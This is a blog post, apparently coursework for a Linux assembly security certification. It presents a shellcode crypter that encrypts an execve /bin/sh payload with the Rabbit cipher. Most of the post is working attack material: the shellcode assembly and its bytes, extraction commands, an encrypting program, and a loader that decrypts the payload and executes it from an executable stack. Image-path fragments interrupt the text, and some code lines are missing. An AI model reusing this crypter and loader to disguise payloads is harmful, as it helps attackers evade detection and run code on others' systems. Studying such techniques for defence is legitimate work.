Rabbit Shellcode Crypter

In this post I will introduce custom shellcode crypter based on Rabbit cipher.

Introduction to Rabbit cipher

Rabbit cipher is stream synchronous symmetric cipher using 128-bit key and 64-bit initialization vector. It was developed in 2003 by Martin Boesgaard, Mette Vesterager, Thomas Christensen and Erik Zenner. Source code was released in 2008. This cipher is used mainly in embedded devices, RFID and sensor networks because it’s lightweight and power consumption effective.

I will use Rabbit C library developed in ECRYPT II project and simple stack execve shellcode.

/bin/sh execve shellcodeAssembly code for executing /bin/sh via system call is

; File: execve-stack.nasm

global _start

section .text

    xor eax, eax
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    push eax
    mov edx, esp
    push ebxmov ecx, esp
    mov al, 11
    int 0x80

Compile .nasm file into object file(1)

$ nasm -f elf32 -o execve-stack.o execve-stack.nasm

Create binary file from object file

$ ld -o execve-stack execve-stack.o

Check for null bytes(2)

$ objdump -M intel -d execve-stack | grep 00

Extract shellcode from binary

$ objdump -d ./execve-stack|grep '[0-9a-f]:'|grep -v 'file'|cut -f2 -d:|cut -f1-7 -d' '|tr -s ' '|tr '\t' ' '|sed 's/ $//g'|sed 's/ /\\x/g'|paste -d '' -s |sed 's/^/"/'|sed 's/$/"/g'We get following short shellcode



For encryption I will use open source ECRYPT II C rabbit library.

// File: encrypt2rabbit.c
// Author: Petr Javorik#include <string.h>
#include <stdio.h>
#include "rabbit/code/rabbit.c"

// Unencrypted shellcode
unsigned char code[] = \
// Encryption key must be exactly 16 bytes
char key[16] = {'s', 'o', 'm', 'e', 'e', 'n', 'c', 'r', 'y', 'p', 't', 'k', 'e', 'y', 'y', 'y'};

int main()
    // Initialize ECRYPT library
    // ctx is object containing settings and state of encryption engine
    ECRYPT_ctx ctx;
    // Load key
    ECRYPT_keysetup(&ctx, key, 128, 0);
    // Encrypt
    u8 encrypted[200];int codeLen = strlen(code);
    ECRYPT_process_bytes(0, &ctx, code, encrypted, codeLen);

    // Print result
    int i;
    printf("Encryption Key = ");
    for (i=0; i<16; i++)
        printf("%c", key[i]);

    printf("Original       = ");for (i=0; i<codeLen; i++)
        printf("\\x%02x", code[i]);

    printf("Encrypted      = ");
    for (i=0; i<codeLen; i++)
        printf("\\x%02x", encrypted[i]);
    printf ("\n");

    return 0;

If we compile and run encrypt2rabbit.c we get encrypted shellcode and encryption/decryption key

$ gcc encrypt2rabbit.c -o encrypt2rabbit
$ ./encrypt2rabbit
Encryption Key = someencryptkeyyy
Original = \x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x50\x89\xe2\x53\x89\xe1\xb0\x0b\xcd\x80
Encrypted = \x7f\xaf\xa4\x1e\xb7\x11\x1e\x89\xd5\x56\x95\x03\x7a\x4b\x07\x0b\x94\xf8\xd4\x86\x3d\xbc\x4c\xa3\x30

Decryption and execution

Program for shellcode decryption and execution is very similar to encrypt2rabbit.c since the Rabbit is symmetric cipher but additionally it contains execution code

// File: decryptAndExecute.c
// Author: Petr Javorik#include <string.h>
#include <stdio.h>
#include "rabbit/code/rabbit.c"

// Encrypted shellcode
unsigned char encrypted[] = \

int main(int argc, char **argv)
    // Initialize ECRYPT library
    // ctx is object containing settings and state of encryption engine
    ECRYPT_ctx ctx;
    // Load key
    ECRYPT_keysetup(&ctx, argv[1], 128, 0);
    // Decrypt
    u8 decrypted[200];
    int codeLen = strlen(encrypted);
    ECRYPT_process_bytes(0, &ctx, encrypted, decrypted, codeLen);// Execute
    int (*DecryptedFun)() = (int(*)())decrypted;

Compilingand running decryptAndExecute.c with encryption/decryption key as first argument we get /bin/sh executed

$ gcc -fno-stack-protector -z execstack decryptAndExecute.c -o decryptAndExecute
$ ./decryptAndExecute someencryptkeyyy
$ whoami

(1) Object file contains low level instructions which can be understood by the CPU. That is why it is also called machine code. This low level machine code is the binary representation of the instructions so it can be disassembled by objectdump. Object file is not directly executable.

(2) Shellcode must be free of nullbytes because they are used as C string terminators in many C functions. Leaving null bytes in shellcode can lead to undefined shellcode behaviour and hard-to-find bugs.

This blog post has been created for completing the requirements of the SecurityTube Linux Assembly Expert certification

Github code

Student ID:SLAE-1443

Leave a Reply